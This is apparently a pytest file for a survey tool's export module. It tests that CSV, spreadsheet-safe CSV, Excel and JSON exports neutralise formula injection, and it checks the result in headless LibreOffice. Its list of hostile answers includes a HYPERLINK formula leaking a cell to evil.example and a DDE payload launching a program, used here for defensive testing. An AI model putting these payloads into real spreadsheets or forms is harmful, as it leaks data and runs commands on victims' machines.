"""Spreadsheet formula injection (issue 11, point 13): a researcher who opens an export
in a spreadsheet must not run what an expert or an item's author typed.

Design under test (README, "Exports"):

- the raw CSV files, which pandas, R and ``reproduce.py`` read, hold every text exactly
  as typed and every number as a number (``-3`` is a number, not a formula);
- the CSV zip also holds ``spreadsheet/``, a copy of every table whose text cells that
  a spreadsheet would read as a formula (starting with ``=``, ``+``, ``-``, ``@``, a tab
  or a carriage return) begin with an apostrophe, as OWASP recommends;
- the Excel workbook stores every text cell as a string, never a formula nor an error
  value, with its text unchanged;
- JSON is data for programs; no spreadsheet evaluates it, so it holds the exact text.

The last tests open the files in LibreOffice (``soffice --headless --convert-to``), the
spreadsheet a researcher may well use, and read back what it made of each cell.  The raw
CSV is opened too, to show that the hazard is real (LibreOffice does evaluate ``=1+1``
there) and so that the check can fail.
"""

from __future__ import annotations

import io
import json
import shutil
import subprocess
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from elicit.extensions import db
from surveys.answers import submit_responses
from surveys.exports import (
    SPREADSHEET_FOLDER,
    TABLES,
    export_file,
    export_tables,
    spreadsheet_text,
    write_csv,
    write_json,
    write_xlsx,
)
from surveys.panel import panelist_by_pseudonym
from surveys.reproduce import read_responses
from surveys.rounds import close_round, open_round
from tests.conftest import run_reproduce

#: What experts type, one each: formulas for every spreadsheet, and texts that only
#: look like the start of one.
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click here")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "#N/A",
]
SOURCE = """\
[study]
slug = "formulas"
languages = ["en"]
max_rounds = 2
title = { en = "Formulas" }

[consensus]
criteria = [{ kind = "iqr", max = 1 }]

[[items]]
key = "sum"
kind = "likert"
scale = { min = 1, max = 3 }
text = { en = "=1+1 is two?" }
labels = { en = ["-low", "=mid", "+high"] }

[[items]]
key = "change"
kind = "numeric_estimate"
text = { en = "@ How much will it change?" }
bounds = { min = -100, max = 100 }
consensus = { criteria = [{ kind = "iqr", max = 5 }] }

[[items]]
key = "why"
kind = "open_text"
text = { en = "Anything else?" }
"""


@pytest.fixture
def answered(app, make_study, make_panel):
    """The study after one closed round: each panelist typed one hostile text as an
    open answer and as a rationale, and estimated a negative change."""
    study = make_study(SOURCE)
    links = make_panel(study, len(HOSTILE))
    open_round(db.session, study)
    for index, (link, text) in enumerate(zip(links, HOSTILE, strict=True)):
        panelist = panelist_by_pseudonym(db.session, study, link.pseudonym)
        submit_responses(
            db.session,
            panelist,
            {
                "sum": str(1 + index % 3),
                "rationale.sum": text,
                "change.lowest": "-10",
                "change.best": "-3",
                "change.highest": str(index),
                "change.confidence": "80",
                "why": text,
            },
        )
    close_round(db.session, study)
    return study


def csv_folder(study, tmp_path: Path) -> Path:
    """The CSV export, as the download's zip unpacks it."""
    content, _, _ = export_file(export_tables(db.session, study), "csv")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        archive.extractall(tmp_path)
    return tmp_path / study.slug


# -- the cell rule ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("-3", "-3"),  # a number stays a number
        ("+2.5e3", "+2.5e3"),
        ("", ""),
        ("plain text = fine", "plain text = fine"),
        ("'quoted already", "'quoted already"),
        (-3.0, -3.0),
        (None, None),
        (True, True),
    ],
)
def test_the_spreadsheet_rule_guards_formula_starts_only(value, shown) -> None:
    """Text that a spreadsheet would read as a formula gets an apostrophe; nothing else
    changes, numbers least of all."""
    assert spreadsheet_text(value) == shown


# -- the files --------------------------------------------------------------------------------


def test_raw_csv_files_hold_every_text_exactly_and_reproduce_passes(answered, tmp_path) -> None:
    folder = csv_folder(answered, tmp_path)
    responses = read_responses(folder / "responses.csv")
    assert sorted(responses.loc[responses["item"] == "why", "text"]) == sorted(HOSTILE)
    rationales = responses.loc[responses["item"] == "sum", "rationale"]
    assert sorted(rationales) == sorted(HOSTILE)
    best = responses.loc[(responses["item"] == "change") & (responses["component"] == "best")]
    assert best["value"].tolist() == [-3.0] * len(HOSTILE)  # numbers, not texts
    items = pd.read_csv(folder / "items.csv", keep_default_na=False)
    assert "=1+1 is two?" in items["text"].tolist()
    result = run_reproduce(folder)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "PASS" in result.stdout


def test_the_zip_holds_a_spreadsheet_safe_copy_of_every_table(answered, tmp_path) -> None:
    folder = csv_folder(answered, tmp_path)
    copies = folder / SPREADSHEET_FOLDER
    assert sorted(path.name for path in copies.iterdir()) == sorted(f"{t}.csv" for t in TABLES)
    assert SPREADSHEET_FOLDER in (folder / "README.txt").read_text(encoding="utf-8")
    for table in TABLES:
        raw = pd.read_csv(folder / f"{table}.csv", keep_default_na=False, dtype=str)
        safe = pd.read_csv(
            copies / f"{table}.csv", keep_default_na=False, dtype=str, encoding="utf-8-sig"
        )
        assert list(safe.columns) == list(raw.columns)
        assert safe.shape == raw.shape
        for column in raw.columns:
            for mine, copied in zip(raw[column], safe[column], strict=True):
                assert copied == spreadsheet_text(mine), (table, column, mine, copied)
    safe = pd.read_csv(
        copies / "responses.csv",
        keep_default_na=False,
        na_values={"value": [""]},
        encoding="utf-8-sig",
    )
    typed = safe.loc[safe["item"] == "why", "text"].tolist()
    assert sorted(typed) == sorted(text if text == "#N/A" else "'" + text for text in HOSTILE)
    best = safe.loc[(safe["item"] == "change") & (safe["component"] == "best"), "value"]
    assert best.tolist() == [-3.0] * len(HOSTILE)


def test_a_row_whose_text_starts_with_a_tab_or_a_return_is_guarded(answered, tmp_path) -> None:
    """Typed answers are trimmed, so tabs and returns cannot lead them today; the writer
    guards them anyway, whatever a future table holds."""
    tables = export_tables(db.session, answered)
    extra = tables.responses.iloc[[0]].copy()
    extra["text"] = "\t=1+1"
    extra["rationale"] = "\r=2+2"
    tables = replace(tables, responses=pd.concat([tables.responses, extra], ignore_index=True))
    write_csv(tables, tmp_path)
    raw = pd.read_csv(tmp_path / "responses.csv", keep_default_na=False)
    safe = pd.read_csv(
        tmp_path / SPREADSHEET_FOLDER / "responses.csv", keep_default_na=False, encoding="utf-8-sig"
    )
    assert raw["text"].iloc[-1] == "\t=1+1" and safe["text"].iloc[-1] == "'\t=1+1"
    assert raw["rationale"].iloc[-1] == "\r=2+2" and safe["rationale"].iloc[-1] == "'\r=2+2"


def test_the_workbook_stores_every_text_as_text(answered, tmp_path) -> None:
    path = tmp_path / "export.xlsx"
    write_xlsx(export_tables(db.session, answered), path)
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    for text in [*HOSTILE, "=1+1 is two?", "@ How much will it change?"]:
        assert text in texts, text
    numbers = [cell.value for cell in cells if cell.data_type == "n"]
    assert -3 in numbers


def test_json_holds_the_exact_text(answered, tmp_path) -> None:
    """No spreadsheet evaluates JSON: it keeps what was typed, as every program expects."""
    path = tmp_path / "export.json"
    write_json(export_tables(db.session, answered), path)
    document = json.loads(path.read_text(encoding="utf-8"))
    typed = [row["text"] for row in document["responses"] if row["item"] == "why"]
    assert sorted(typed) == sorted(HOSTILE)


def test_a_text_with_a_lone_carriage_return_keeps_its_row(answered, tmp_path) -> None:
    """A rationale holding a lone carriage return (kept when typed, as line feeds are)
    once went into the CSV unquoted, and every reader split the row there."""
    tables = export_tables(db.session, answered)
    responses = tables.responses.copy()
    row = responses.index[responses["item"] == "sum"][0]
    responses.loc[row, "rationale"] = "first line\rsecond line"
    write_csv(replace(tables, responses=responses), tmp_path)
    raw = read_responses(tmp_path / "responses.csv")
    assert len(raw) == len(responses)
    assert raw.loc[row, "rationale"] == "first line\rsecond line"
    result = run_reproduce(tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr


# -- opened in LibreOffice --------------------------------------------------------------------

SOFFICE = shutil.which("soffice")


@pytest.fixture
def libreoffice(tmp_path):
    """Convert a file with LibreOffice Calc, headless, with a profile of its own; return
    the converted workbook opened twice: as stored, and with formulas' cached values.
    Missing LibreOffice skips (and CI fails on skips)."""
    if SOFFICE is None:
        pytest.skip(
            "LibreOffice is not installed "
            "(apt-get install --no-install-recommends libreoffice-calc-nogui)"
        )
    profile = (tmp_path / "libreoffice-profile").as_uri()

    def convert(source: Path) -> tuple[openpyxl.Workbook, openpyxl.Workbook]:
        target = tmp_path / f"converted-{source.parent.name}-{source.stem}"
        subprocess.run(
            [
                SOFFICE,
                f"-env:UserInstallation={profile}",
                "--headless",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(target),
                str(source),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        (converted,) = target.glob("*.xlsx")
        return (
            openpyxl.load_workbook(converted),
            openpyxl.load_workbook(converted, data_only=True),
        )

    return convert


def cells_of(workbook: openpyxl.Workbook) -> list:
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_libreoffice_evaluates_nothing_in_the_spreadsheet_copy(
    answered, tmp_path, libreoffice
) -> None:
    folder = csv_folder(answered, tmp_path)
    # The hazard is real: the raw file, opened as is, runs the expert's formulas.
    raw, raw_values = libreoffice(folder / "responses.csv")
    assert any(cell.data_type == "f" for cell in cells_of(raw))
    assert 2 in [cell.value for cell in cells_of(raw_values)]  # =1+1 was computed
    for table in TABLES:
        stored, values = libreoffice(folder / SPREADSHEET_FOLDER / f"{table}.csv")
        formulas = [cell.coordinate for cell in cells_of(stored) if cell.data_type == "f"]
        assert not formulas, (table, formulas)
        if table == "responses":
            shown = [cell.value for cell in cells_of(values)]
            for text in HOSTILE:
                assert (text if text == "#N/A" else "'" + text) in shown, text
            assert "click here" not in shown
            assert shown.count(-3) == len(HOSTILE)  # numbers are still numbers


def test_libreoffice_opens_the_workbook_with_every_text_unchanged(
    answered, tmp_path, libreoffice
) -> None:
    path = tmp_path / "book" / "export.xlsx"
    path.parent.mkdir()
    write_xlsx(export_tables(db.session, answered), path)
    stored, values = libreoffice(path)
    formulas = [cell for cell in cells_of(stored) if cell.data_type == "f"]
    # LibreOffice saves a true/false cell as the formula =TRUE() or =FALSE(): that is
    # how it writes a boolean, not a text it evaluated.
    assert {cell.value for cell in formulas} <= {"=TRUE()", "=FALSE()"}, [
        (cell.coordinate, cell.value) for cell in formulas
    ]
    shown = [cell.value for cell in cells_of(values)]
    for text in [*HOSTILE, "=1+1 is two?"]:
        assert text in shown, text
    assert "click here" not in shown and -3 in shown
